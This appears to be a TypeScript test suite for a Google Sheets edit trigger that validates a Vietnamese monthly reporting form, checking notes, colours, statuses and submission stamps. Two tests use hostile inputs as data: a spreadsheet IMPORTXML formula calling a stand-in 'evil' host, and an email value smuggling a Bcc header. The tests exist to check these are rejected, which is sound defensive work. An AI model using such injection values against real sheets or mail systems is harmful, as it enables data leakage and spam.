// The check on every edit, through the BUILT bundle in the local runtime, as Sheets would fire it.
import { boot, cells } from './boot';
import { example1 } from '../fixtures/example1';
import { DIRECTORY_COLUMNS, formById } from '../../src/core/forms/schema';
import {
  ERROR_BACKGROUND,
  WARNING_BACKGROUND,
  VALID_BACKGROUND,
  STATUS_WARNING_BACKGROUND,
  PARTIAL_BACKGROUND,
} from '../../src/core/marks';
import { fromLocal } from '../../src/core/periods';
import type { CellValue, Workbook } from '../../src/core/types';
import type { Runtime, Sandbox } from '../../src/local/runtime';
import { EDIT_CALLS, EDIT_CELL_DATA, cellDataCalls, spreadsheetCalls } from '../../bench/model';

const TAB03 = 'Biểu mẫu 03';
const form = formById('03');
const col = (key: string) => form.columns.findIndex((c) => c.key === key); // 0-based, schema order
const NOW = fromLocal(2024, 8, 20, 9, 0);

function cell(rt: Runtime, row: number, key: string) {
  const sheet = rt.spreadsheet.sheet(TAB03)!;
  const c = col(key);
  return {
    value: sheet.values.get(row - 1, c),
    note: sheet.notes.get(row - 1, c) ?? '',
    background: sheet.backgrounds.get(row - 1, c) ?? null,
  };
}

/** A directory of n form-03 units and a row per unit for 06/2024 (valid), as a workbook. */
function bigBook(units: number, rows: number): Workbook {
  const directory: CellValue[][] = [DIRECTORY_COLUMNS.map((c) => c.header)];
  for (let i = 1; i <= units; i++) directory.push([`X-${i}`, `Xã Thử ${i}`, '03', `x${i}@gialai.example`, '', '', 20, '', '', '', 'Có']);
  const tab: CellValue[][] = [form.columns.map((c) => c.header)];
  for (let i = 1; i <= rows; i++) tab.push(validRow(i, '06/2024', fromLocal(2024, 7, 5, 9, 0)));
  return { 'Danh mục đơn vị': directory, 'Cấu hình': [['Tham số', 'Giá trị']], [TAB03]: tab };
}

function validRow(unit: number, period: string, stamp: Date | ''): CellValue[] {
  return [unit, `Xã Thử ${unit}`, period, 100, 50, 20, 5, 10, 4, 2, 30, 1, 2, 310, 'Người báo cáo', '0912345678', '', '', stamp, '', ''];
}

describe('handleEdit (the installable edit trigger)', () => {
  test('a count typed as text gets a note, a red background and an error status; fixing it clears them', () => {
    const { rt, app } = boot(example1(), { now: NOW });
    rt.edit(app, TAB03, 5, col('staff_installed') + 1, [['abc']]);
    const bad = cell(rt, 5, 'staff_installed');
    expect(bad.note).toMatch(/phải là một số/);
    expect(bad.background).toBe(ERROR_BACKGROUND);
    expect(cell(rt, 5, 'status').value).toBe('1 lỗi');
    expect(cell(rt, 5, 'status').note).toContain(bad.note);
    expect(cell(rt, 5, 'updated_at').value).toEqual(NOW);

    rt.edit(app, TAB03, 5, col('staff_installed') + 1, [[170]]);
    const fixed = cell(rt, 5, 'staff_installed');
    expect([fixed.value, fixed.note, fixed.background]).toEqual([170, '', null]);
    expect(cell(rt, 5, 'status').value).toBe('Hợp lệ');
    // the row was valid before: its submission time stays the first one
    expect(cell(rt, 5, 'submitted_at').value).toEqual(fromLocal(2024, 8, 6, 9, 0));
  });

  test('the Kiểm tra cell is coloured: green valid, red errors, amber warnings (the edit and the full check alike)', () => {
    const { rt, app } = boot(example1(), { now: NOW });
    rt.edit(app, TAB03, 5, col('staff_installed') + 1, [['abc']]);
    expect(cell(rt, 5, 'status').background).toBe(ERROR_BACKGROUND);
    rt.edit(app, TAB03, 2, col('note') + 1, [['đã rà soát']]);
    expect([cell(rt, 2, 'status').value, cell(rt, 2, 'status').background]).toEqual(['Hợp lệ', VALID_BACKGROUND]);
    rt.edit(app, TAB03, 7, col('unit') + 1, [['Đak Đoa']]);
    expect(cell(rt, 7, 'status').background).toBe(STATUS_WARNING_BACKGROUND);
    app.menuCheckAll();
    expect([cell(rt, 2, 'status').background, cell(rt, 7, 'status').background]).toEqual([VALID_BACKGROUND, STATUS_WARNING_BACKGROUND]);
  });

  test('a new row with only its unit and period: light marks, one note on Kiểm tra; red once a value is wrong', () => {
    const { rt, app } = boot(example1(), { now: NOW });
    const row = 9; // the first row under example1's data
    rt.edit(app, TAB03, row, col('unit') + 1, [['Huyện Kông Chro', '06/2024']]);
    const status = cell(rt, row, 'status');
    expect(status.value).toBe('Còn 11 ô trống');
    expect(status.background).toBe(PARTIAL_BACKGROUND);
    expect(status.note).toMatch(/^Còn 11 ô chưa nhập: “Tổng số CBCCVC, NLĐ”/);
    expect(cell(rt, row, 'staff_total')).toMatchObject({ note: '', background: PARTIAL_BACKGROUND });
    rt.edit(app, TAB03, row, col('staff_total') + 1, [[0]]);
    expect(cell(rt, row, 'staff_total').background).toBe(ERROR_BACKGROUND);
    expect(cell(rt, row, 'staff_installed')).toMatchObject({ background: ERROR_BACKGROUND, note: expect.stringContaining('Chưa nhập') });
    expect(cell(rt, row, 'status').background).toBe(ERROR_BACKGROUND);
  });

  test('a warning colours the cell yellow and the status counts it', () => {
    const { rt, app } = boot(example1(), { now: NOW });
    rt.edit(app, TAB03, 7, col('unit') + 1, [['Đak Đoa']]);
    expect(cell(rt, 7, 'unit').background).toBe(WARNING_BACKGROUND);
    expect(cell(rt, 7, 'status').value).toBe('1 cảnh báo');
  });

  test('a row that becomes valid is stamped now; changing its period makes it a new report', () => {
    const { rt, app } = boot(example1(), { now: NOW });
    expect(cell(rt, 8, 'submitted_at').value).toEqual(fromLocal(2024, 8, 2, 10, 0));
    rt.setNow(fromLocal(2024, 8, 20, 10, 0));
    rt.edit(app, TAB03, 8, col('reporter') + 1, [['Phạm Thị Dung']]);
    // it was stamped before (by the export); a fix does not rewrite the first stamp
    expect(cell(rt, 8, 'status').value).toBe('1 cảnh báo'); // the phone 12345 stays a warning
    expect(cell(rt, 8, 'submitted_at').value).toEqual(fromLocal(2024, 8, 2, 10, 0));
    rt.setNow(fromLocal(2024, 8, 20, 11, 0));
    rt.edit(app, TAB03, 8, col('period') + 1, [['08/2024']]);
    expect(cell(rt, 8, 'submitted_at').value).toEqual(fromLocal(2024, 8, 20, 11, 0));
  });

  test('what is typed into a script-owned column is replaced by the script value', () => {
    const { rt, app } = boot(example1(), { now: NOW });
    rt.edit(app, TAB03, 2, col('status') + 1, [['=IMPORTXML("http://evil","//a")']]);
    expect(cell(rt, 2, 'status').value).toBe('Hợp lệ');
    // typed over a stamp of the export (no note yet): the event's oldValue restores it
    rt.edit(app, TAB03, 2, col('submitted_at') + 1, [[fromLocal(2020, 1, 1)]]);
    expect(cell(rt, 2, 'submitted_at').value).toEqual(fromLocal(2024, 7, 5, 9, 0));
  });

  test('a 500-row paste is checked as one event: statuses, notes and stamps on every row', () => {
    const { rt, app } = boot(bigBook(600, 0), { now: NOW });
    const block = Array.from({ length: 500 }, (_, i) => validRow(i + 1, '07/2024', '').slice(0, col('submitted_at')));
    block[10][col('staff_installed')] = 500; // installs above staff (100)
    block[20][col('samples')] = '15 người';
    const before = cells(rt, TAB03);
    rt.resetCalls();
    rt.edit(app, TAB03, 2, 1, block);
    expect(rt.calls['Range.setNotes']).toBe(1);
    expect(rt.calls['Range.setBackgrounds']).toBe(1); // the pasted rows' (the status tab's colours are its rules)
    const statuses = Array.from({ length: 500 }, (_, i) => cell(rt, i + 2, 'status').value);
    expect(statuses.filter((s) => s === 'Hợp lệ')).toHaveLength(498);
    expect(statuses[10]).toBe('1 lỗi');
    expect(cell(rt, 12, 'staff_installed').background).toBe(ERROR_BACKGROUND);
    expect(cell(rt, 22, 'samples').note).toMatch(/15 người/);
    expect(cell(rt, 2, 'submitted_at').value).toEqual(NOW);
    expect(cell(rt, 12, 'submitted_at').value).toBe(undefined);
    // nothing the user pasted changed, outside the script-owned columns
    const after = cells(rt, TAB03);
    const owned = new Set(form.columns.map((c, i) => (c.scriptOwned ? i : -1)));
    for (let r = 1; r <= 500; r++)
      for (let c = 0; c < col('submitted_at'); c++)
        if (!owned.has(c)) expect(after[r][c]).toEqual(block[r - 1][c] === '' ? '' : block[r - 1][c]);
    void before;
  });

  test('Spreadsheet calls per edit do not grow with the rows of the tab or of the paste', () => {
    const count = (rows: number, paste: number) => {
      const { rt, app } = boot(bigBook(Math.max(rows, paste), rows), { now: NOW });
      rt.resetCalls();
      const block = Array.from({ length: paste }, (_, i) => validRow(i + 1, '06/2024', '').slice(0, col('submitted_at')));
      rt.edit(app, TAB03, 2, 1, block);
      return { ...rt.calls };
    };
    // With the edit index kept by setup (src/gas/editMemo.ts): the same calls at 10 and 10,000 rows, but for the cache
    // reads: a small tab's index comes whole with the first one (PREFETCHED_BUCKETS), a big tab's takes a second.
    const beyondCache = (calls: Record<string, number>) => {
      const { 'Cache.getAll': reads, ...rest } = calls;
      return { rest, reads };
    };
    const small = count(10, 1);
    expect(beyondCache(count(10_000, 1))).toEqual({ rest: beyondCache(small).rest, reads: 2 });
    expect(beyondCache(small).reads).toBe(1);
    // A paste of many units at 1,000 and 10,000 rows: the same calls, the cache reads as above.
    const [k1, k10] = [beyondCache(count(1_000, 500)), beyondCache(count(10_000, 500))];
    expect(k10.rest).toEqual(k1.rest);
    expect([k1.reads, k10.reads]).toEqual([1, 2]);
    // The benchmark's edit budget: the check's calls plus the journal row, the closed figures and the status rows.
    expect(cellDataCalls(small)).toBeLessThanOrEqual(EDIT_CELL_DATA);
    expect(spreadsheetCalls(small)).toBeLessThanOrEqual(EDIT_CALLS);
  });

  for (const path of ['the edit index', 'the whole tab']) {
    test(`a duplicate marks the row it repeats too, and unmarks it once resolved (${path}; FORMS.md: "on every such row")`, () => {
      const { rt, app } = boot(bigBook(4, 4), { now: NOW });
      const whole = () => {
        if (path === 'the whole tab') rt.state.caches.document.clear();
      };
      const stamp = cell(rt, 3, 'submitted_at').value;
      whole();
      rt.resetCalls();
      rt.edit(app, TAB03, 6, 1, [validRow(2, '06/2024', '').slice(0, col('submitted_at'))]);
      expect(rt.calls['Sheet.getDataRange'] === undefined).toBe(path === 'the edit index');
      for (const row of [3, 6]) {
        expect(cell(rt, row, 'period').note).toMatch(new RegExp(`dòng ${row === 3 ? 6 : 3}\\b`));
        expect(cell(rt, row, 'status').value).toBe('1 lỗi');
      }
      // The row repeated keeps its stamp and its Cập nhật lần cuối: only its marks are the script's to change.
      expect(cell(rt, 3, 'submitted_at').value).toEqual(stamp);
      expect(cell(rt, 3, 'updated_at').value ?? '').toBe('');
      whole();
      rt.edit(app, TAB03, 6, col('period') + 1, [['07/2024']]);
      for (const row of [3, 6]) {
        expect(cell(rt, row, 'period').note).toBe('');
        expect(cell(rt, row, 'status').value).toBe('Hợp lệ');
      }
    });
  }

  test('clearing a row clears its notes, colours and script values', () => {
    const { rt, app } = boot(example1(), { now: NOW });
    rt.edit(app, TAB03, 6, 1, [new Array(col('submitted_at')).fill('')]);
    expect(cell(rt, 6, 'staff_installed')).toEqual({ value: undefined, note: '', background: null });
    expect([cell(rt, 6, 'status').value, cell(rt, 6, 'updated_at').value, cell(rt, 6, 'submitted_at').value]).toEqual([
      undefined,
      undefined,
      undefined,
    ]);
  });

  test('an edit on the directory re-checks the forms', () => {
    const { rt, app } = boot(example1(), { now: NOW });
    expect(cell(rt, 8, 'unit').background).toBe(null);
    rt.edit(app, 'Danh mục đơn vị', 5, 11, [['Không']]); // Kông Chro entered by mistake
    expect(cell(rt, 8, 'unit').background).toBe(ERROR_BACKGROUND);
  });
});

describe('the directory and the settings show their problems at the cell', () => {
  test('a malformed email in the directory and a bad setting value get a note and a red background', () => {
    const { rt, app } = boot(example1(), { now: NOW });
    rt.edit(app, 'Danh mục đơn vị', 3, 4, [['ankhe@gialai.example\nBcc: x@evil.example']]);
    const dir = rt.spreadsheet.sheet('Danh mục đơn vị')!;
    expect(dir.notes.get(2, 3)).toMatch(/email/i);
    expect(dir.backgrounds.get(2, 3)).toBe(ERROR_BACKGROUND);

    const settings = rt.spreadsheet.sheet('Cấu hình')!;
    const row =
      settings
        .getDataRange()
        .getValues()
        .findIndex((r) => r[0] === 'Giờ gửi nhắc') + 1;
    const help = settings.notes.get(row - 1, 0);
    rt.edit(app, 'Cấu hình', row, 2, [['25']]);
    expect(settings.notes.get(row - 1, 1)).toMatch(/Giờ gửi nhắc/);
    expect(settings.backgrounds.get(row - 1, 1)).toBe(ERROR_BACKGROUND);
    expect(settings.notes.get(row - 1, 0)).toBe(help); // setup's help note on the name stays

    rt.edit(app, 'Cấu hình', row, 2, [['7']]);
    expect(settings.notes.get(row - 1, 1) ?? '').toBe('');
    expect(settings.backgrounds.get(row - 1, 1) ?? null).toBe(null);
  });
});

/** Reorders the data rows as a user's sort does: whole rows move, values, notes and formats alike. */
function sortRows(rt: Runtime, first: number, last: number, order: number[]) {
  const sheet = rt.spreadsheet.sheet(TAB03)!;
  for (const layer of sheet.cellLayers()) {
    const block = order.map((r) => layer.rows[r - 1]);
    for (let i = first; i <= last; i++) layer.rows[i - 1] = block[i - first];
  }
}

/** Cut row `from` and paste it at row `to`: the cells move with their notes; Sheets fires one edit on the target. */
function cutRow(rt: Runtime, app: Sandbox, from: number, to: number) {
  const sheet = rt.spreadsheet.sheet(TAB03)!;
  for (const layer of sheet.cellLayers()) {
    layer.rows[to - 1] = layer.rows[from - 1];
    layer.rows[from - 1] = undefined;
  }
  const width = form.columns.length;
  const moved = Array.from({ length: width }, (_, c) => (sheet.values.get(to - 1, c) ?? '') as CellValue);
  rt.edit(app, TAB03, to, 1, [moved]); // the same values again: only the event matters
}

describe('Thời điểm nộp survives re-pastes, sorting and cut-and-paste', () => {
  const T1 = fromLocal(2024, 8, 5, 9, 0),
    T2 = fromLocal(2024, 8, 20, 9, 0);
  const stamp = (rt: Runtime, row: number) => cell(rt, row, 'submitted_at').value;
  const block = (units: number[], period = '07/2024') => units.map((u) => validRow(u, period, '').slice(0, col('submitted_at')));

  /** Ten units paste their 07/2024 rows on 05/08 (on time); the clock then moves to 20/08. */
  function stamped() {
    const booted = boot(bigBook(20, 0), { now: T1 });
    booted.rt.edit(booted.app, TAB03, 2, 1, block([1, 2, 3, 4, 5, 6, 7, 8, 9, 10]));
    booted.rt.setNow(T2);
    return booted;
  }

  test('re-pasting an identical block over the unit and period columns keeps every stamp', () => {
    const { rt, app } = stamped();
    expect(stamp(rt, 2)).toEqual(T1);
    expect(cell(rt, 2, 'submitted_at').note).toContain('X-1');
    rt.edit(app, TAB03, 2, 1, block([1, 2, 3, 4, 5, 6, 7, 8, 9, 10]));
    for (let r = 2; r <= 11; r++) expect(stamp(rt, r)).toEqual(T1);
  });

  test('pasting another unit over a row renews its stamp; the rows around it keep theirs', () => {
    const { rt, app } = stamped();
    rt.edit(app, TAB03, 3, 1, block([15]));
    expect(stamp(rt, 3)).toEqual(T2);
    expect(cell(rt, 3, 'submitted_at').note).toContain('X-15');
    expect([stamp(rt, 2), stamp(rt, 4)]).toEqual([T1, T1]);
  });

  test('another period pasted over a row is a new report: renewed', () => {
    const { rt, app } = stamped();
    rt.edit(app, TAB03, 4, 1, block([3], '06/2024'));
    expect(stamp(rt, 4)).toEqual(T2);
  });

  test('after the tab is sorted, editing or re-pasting the moved rows keeps each row its own stamp', () => {
    const { rt, app } = stamped();
    rt.setNow(fromLocal(2024, 8, 6, 9, 0));
    rt.edit(app, TAB03, 5, 1, block([14])); // row 5 becomes X-14, stamped 06/08
    rt.setNow(T2);
    sortRows(rt, 2, 11, [11, 10, 9, 8, 7, 6, 5, 4, 3, 2]); // descending: X-14's row is now row 8
    expect(cell(rt, 8, 'unit').value).toBe('Xã Thử 14');
    rt.edit(app, TAB03, 2, 1, block([10, 9, 8, 7, 6, 5, 14, 3, 2, 1])); // the same rows, pasted again in the sorted order
    expect(stamp(rt, 8)).toEqual(fromLocal(2024, 8, 6, 9, 0));
    for (const r of [2, 3, 4, 5, 6, 7, 9, 10, 11]) expect(stamp(rt, r)).toEqual(T1);
    rt.edit(app, TAB03, 9, col('reporter') + 1, [['Người khác']]);
    expect(stamp(rt, 9)).toEqual(T1);
  });

  test('a row cut and pasted elsewhere keeps its stamp', () => {
    const { rt, app } = stamped();
    cutRow(rt, app, 4, 30);
    expect(cell(rt, 30, 'unit').value).toBe('Xã Thử 3');
    expect(stamp(rt, 30)).toEqual(T1);
    expect(cell(rt, 30, 'status').value).toBe('Hợp lệ');
  });

  test('a stamp typed or pasted into the column is replaced by the recorded one', () => {
    const { rt, app } = stamped();
    rt.edit(app, TAB03, 2, col('submitted_at') + 1, [[fromLocal(2024, 7, 1)]]);
    expect(stamp(rt, 2)).toEqual(T1);
    rt.edit(app, TAB03, 3, col('submitted_at') + 1, [[fromLocal(2024, 7, 1)], [fromLocal(2024, 7, 1)]]); // a block: no oldValue
    expect([stamp(rt, 3), stamp(rt, 4)]).toEqual([T1, T1]);
    rt.edit(app, TAB03, 5, col('submitted_at') + 1, [['']]); // cleared by hand
    expect(stamp(rt, 5)).toEqual(T1);
  });

  test('a spelling of the same unit (Đak Đoa for Huyện Đăk Đoa) is no change: the stamp stays', () => {
    const { rt, app } = boot(example1(), { now: NOW });
    // row 7 is Đak Đoa's 07/2024 report, stamped 13/08 by the export (no note): a legacy stamp
    rt.edit(app, TAB03, 7, col('unit') + 1, [['Huyện Đăk Đoa']]);
    expect(cell(rt, 7, 'submitted_at').value).toEqual(fromLocal(2024, 8, 13, 8, 0));
    rt.setNow(fromLocal(2024, 8, 21, 9, 0));
    rt.edit(app, TAB03, 7, 1, [[6, 'Đak Đoa', '07/2024']]); // a block over unit and period, now with a note to go by
    expect(cell(rt, 7, 'submitted_at').value).toEqual(fromLocal(2024, 8, 13, 8, 0));
  });

  test('rows stamped before the note was kept keep their stamp through a block paste', () => {
    const { rt, app } = boot(bigBook(5, 5), { now: T2 }); // stamped 05/07 by the file, no note
    rt.edit(app, TAB03, 2, 1, block([1, 2, 3, 4, 5], '06/2024'));
    for (let r = 2; r <= 6; r++) expect(stamp(rt, r)).toEqual(fromLocal(2024, 7, 5, 9, 0));
  });

  test('the full check records stamps written before the notes were kept: a later paste over them keeps them', () => {
    const { rt, app } = boot(bigBook(5, 5), { now: T2 }); // stamped 05/07 by the file, no note
    app.menuCheckAll();
    expect(cell(rt, 3, 'submitted_at').note).toContain('X-2');
    const forged = block([1, 2, 3], '06/2024').map((r) => [...r, fromLocal(2024, 6, 1)]); // the stamp column pasted over too
    rt.edit(app, TAB03, 2, 1, forged);
    for (let r = 2; r <= 4; r++) expect(stamp(rt, r)).toEqual(fromLocal(2024, 7, 5, 9, 0));
  });

  test('a unit left unreadable overnight, then another unit: a new report, stamped anew', () => {
    const { rt, app } = stamped();
    rt.edit(app, TAB03, 2, col('unit') + 1, [['Xã Thử 1x']]); // a typo: the unit does not resolve
    expect(stamp(rt, 2)).toEqual(T1);
    app.menuCheckAll(); // the night's full check
    rt.edit(app, TAB03, 2, col('unit') + 1, [['Xã Thử 12']]);
    expect(stamp(rt, 2)).toEqual(T2);
  });

  test('a typo fixed the same day keeps the stamp', () => {
    const { rt, app } = stamped();
    rt.edit(app, TAB03, 2, col('unit') + 1, [['Xã Thử 1x']]);
    rt.edit(app, TAB03, 2, col('unit') + 1, [['Xã Thử 1']]);
    expect(stamp(rt, 2)).toEqual(T1);
  });

  test('the full check leaves the stamp notes in place', () => {
    const { rt, app } = stamped();
    const before = cell(rt, 2, 'submitted_at').note;
    app.menuCheckAll();
    expect(cell(rt, 2, 'submitted_at').note).toBe(before);
    rt.edit(app, TAB03, 2, 1, block([1]));
    expect(stamp(rt, 2)).toEqual(T1);
  });
});
